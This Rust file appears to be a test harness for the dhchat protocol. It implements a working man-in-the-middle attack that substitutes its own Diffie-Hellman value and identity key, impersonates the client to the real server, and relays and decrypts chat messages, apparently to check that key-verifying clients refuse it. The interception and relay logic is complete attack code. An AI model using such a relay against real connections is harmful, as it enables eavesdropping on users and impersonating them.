//! The classic active attack on unauthenticated Diffie-Hellman: a man in the
//! middle that runs a server handshake toward the client (its own DH value,
//! SERVER_AUTH signed with its own identity key, the only key it holds) and a
//! client handshake toward the real server. If the client accepts it, it
//! relays every message, re-encrypting it, and reads every text.
//!
//! Runs on plain threads with the core's sans-io state machines.

use std::io::{Read, Write};
use std::net::{Shutdown, SocketAddr, TcpListener, TcpStream};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use dhchat_core::group::Group;
use dhchat_core::handshake::{
    AdmitAll, ClientConfig, ClientHandshake, HelloOutcome, ServerHandshake, CLIENT_KEY_LEN,
    MAGIC_LEN, SERVER_HELLO_LEN,
};
use dhchat_core::identity::{IdentityKey, PublicKey};
use dhchat_core::message::Message;
use dhchat_core::record::MAX_RECORD;
use dhchat_core::session::{RecvHalf, SendHalf};
use dhchat_core::Received;
use dhchat_host::rng::new_rng;

/// What the attacker saw.
#[derive(Debug, Default, Clone)]
pub struct Seen {
    /// The client sent CLIENT_KEY.
    pub client_key: bool,
    /// Records the client sent after SERVER_AUTH (a client that refuses the
    /// attacker's key sends none).
    pub client_records: usize,
    /// The nick of the CLIENT_HELLO, if one arrived.
    pub nick: Option<String>,
    /// Texts of SAY the attacker read in the clear while relaying.
    pub texts: Vec<String>,
    /// What went wrong for the attacker, if anything.
    pub failure: Option<String>,
    /// The attacker's handshake with the client has ended (the client closed
    /// or the relay ended).
    pub done: bool,
}

/// A running DH-substituting man in the middle for one connection.
pub struct DhMitm {
    /// Where the victim connects.
    pub addr: SocketAddr,
    /// The attacker's identity key (public half).
    pub key: PublicKey,
    /// What it saw.
    pub seen: Arc<Mutex<Seen>>,
}

impl DhMitm {
    /// Starts the attacker in front of `server` (whose public key it knows,
    /// as anyone can).
    pub fn start(server: SocketAddr, server_key: PublicKey) -> DhMitm {
        let identity = IdentityKey::generate(&mut new_rng());
        let key = identity.public_key();
        let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
        let addr = listener.local_addr().expect("addr");
        let seen = Arc::new(Mutex::new(Seen::default()));
        let log = seen.clone();
        std::thread::spawn(move || {
            let Ok((client, _)) = listener.accept() else {
                return;
            };
            if let Err(e) = attack(client, server, server_key, &identity, &log) {
                log.lock().expect("seen").failure = Some(e);
            }
            log.lock().expect("seen").done = true;
        });
        DhMitm { addr, key, seen }
    }

    /// A copy of what the attacker saw so far.
    pub fn snapshot(&self) -> Seen {
        self.seen.lock().expect("seen").clone()
    }

    /// Waits until the attack is over; false after `limit`.
    pub fn wait_done(&self, limit: Duration) -> bool {
        let end = std::time::Instant::now() + limit;
        while std::time::Instant::now() < end {
            if self.seen.lock().expect("seen").done {
                return true;
            }
            std::thread::sleep(Duration::from_millis(20));
        }
        false
    }
}

/// Reads one record (length field and body) into `buf`; its length, or
/// `None` at the end of the stream.
fn read_record(s: &mut TcpStream, buf: &mut [u8]) -> Option<usize> {
    s.read_exact(buf.get_mut(..2)?).ok()?;
    let len = 2 + usize::from(u16::from_be_bytes([buf[0], buf[1]]));
    s.read_exact(buf.get_mut(2..len)?).ok()?;
    Some(len)
}

fn attack(
    mut client: TcpStream,
    server: SocketAddr,
    mut server_key: PublicKey,
    identity: &IdentityKey,
    seen: &Mutex<Seen>,
) -> Result<(), String> {
    let e = |what: &str| {
        let what = what.to_owned();
        move |err: dhchat_core::error::Error| format!("{what}: {err}")
    };
    let io = |what: &str| {
        let what = what.to_owned();
        move |err: std::io::Error| format!("{what}: {err}")
    };
    let mut rng = new_rng();
    let mut tx = vec![0u8; MAX_RECORD];
    let mut rx = vec![0u8; MAX_RECORD];

    // Toward the server: an ordinary client, up to its SERVER_AUTH.
    let mut upstream = TcpStream::connect(server).map_err(io("connect"))?;
    let mut hello = vec![0u8; SERVER_HELLO_LEN];
    upstream
        .read_exact(&mut hello)
        .map_err(io("SERVER_HELLO"))?;
    let magic: [u8; MAGIC_LEN] = hello[..MAGIC_LEN].try_into().expect("magic");
    let (to_server, n) = ClientHandshake::new(2048)
        .read_magic(&magic)
        .map_err(e("magic"))?
        .read_dh(&hello[MAGIC_LEN..], &mut rng, &mut tx)
        .map_err(e("server DH"))?;
    upstream.write_all(&tx[..n]).map_err(io("CLIENT_KEY"))?;
    let mut server_auth = vec![0u8; MAX_RECORD];
    let auth_len = read_record(&mut upstream, &mut server_auth).ok_or("no SERVER_AUTH")?;

    // Toward the client: a server with the attacker's own DH value and key.
    let (to_client, n) =
        ServerHandshake::start(Group::Ffdhe2048, &mut rng, &mut tx).map_err(e("start"))?;
    client.write_all(&tx[..n]).map_err(io("SERVER_HELLO"))?;
    let mut key = [0u8; CLIENT_KEY_LEN];
    client.read_exact(&mut key).map_err(io("CLIENT_KEY"))?;
    seen.lock().expect("seen").client_key = true;
    let magic: [u8; MAGIC_LEN] = key[..MAGIC_LEN].try_into().expect("magic");
    let (to_client, n) = to_client
        .read_magic(&magic)
        .map_err(e("client magic"))?
        .read_client_key(&key[MAGIC_LEN..], identity, &mut rng, &mut tx)
        .map_err(e("client DH"))?;
    client.write_all(&tx[..n]).map_err(io("SERVER_AUTH"))?;

    // A client that checks the key sends nothing more and closes.
    let Some(len) = read_record(&mut client, &mut rx) else {
        return Ok(());
    };
    seen.lock().expect("seen").client_records += 1;
    let (client_session, nick) = match to_client
        .read_client_hello(&mut rx[..len], &mut AdmitAll)
        .map_err(e("CLIENT_HELLO"))?
    {
        HelloOutcome::Accepted(session, hello) => (session, hello.nick.to_owned()),
        HelloOutcome::Refused(..) => return Err("CLIENT_HELLO refused".into()),
    };
    seen.lock().expect("seen").nick = Some(nick.clone());

    // The client trusted the attacker: log in to the real server under its
    // nick and hand the client the server's WELCOME.
    let (to_server, n) = to_server
        .read_server_auth(
            &mut server_auth[..auth_len],
            &mut server_key,
            &ClientConfig::new(&nick),
            &mut rng,
            &mut tx,
        )
        .map_err(e("SERVER_AUTH"))?;
    upstream.write_all(&tx[..n]).map_err(io("CLIENT_HELLO"))?;
    let len = read_record(&mut upstream, &mut rx).ok_or("no WELCOME")?;
    let (server_session, welcome) = to_server
        .read_welcome(&mut rx[..len])
        .map_err(e("WELCOME"))?;
    let (client_session, n) = client_session
        .welcome(
            welcome.nick,
            welcome.server_name,
            welcome.motd,
            &mut rng,
            &mut tx,
        )
        .map_err(e("seal WELCOME"))?;
    let (to_c, from_c, _) = client_session.split();
    client.write_all(&tx[..n]).map_err(io("WELCOME"))?;
    let (to_s, from_s, _) = server_session.split();

    // Relay both ways, reading everything.
    let (c2, u2) = (
        client.try_clone().map_err(io("clone"))?,
        upstream.try_clone().map_err(io("clone"))?,
    );
    let relay_down = std::thread::spawn(move || relay(u2, from_s, c2, to_c, None));
    relay(client, from_c, upstream, to_s, Some(seen));
    let _ = relay_down.join();
    Ok(())
}

/// Opens each record from `from` and seals its message again toward `to`,
/// noting the texts of SAY in `seen`.
fn relay(
    mut from: TcpStream,
    mut open: RecvHalf,
    mut to: TcpStream,
    mut seal: SendHalf,
    seen: Option<&Mutex<Seen>>,
) {
    let mut rng = new_rng();
    let mut rx = vec![0u8; MAX_RECORD];
    let mut tx = vec![0u8; MAX_RECORD];
    while let Some(len) = read_record(&mut from, &mut rx) {
        let Ok(Received {
            message: Ok(msg), ..
        }) = open.open(&mut rx[..len])
        else {
            break;
        };
        if let Some(seen) = seen {
            let mut seen = seen.lock().expect("seen");
            seen.client_records += 1;
            if let Message::Say { text, .. } = &msg {
                seen.texts.push((*text).to_owned());
            }
        }
        let Ok(n) = seal.seal(&msg, &mut rng, &mut tx) else {
            break;
        };
        if to.write_all(&tx[..n]).is_err() {
            break;
        }
    }
    let _ = to.shutdown(Shutdown::Write);
}
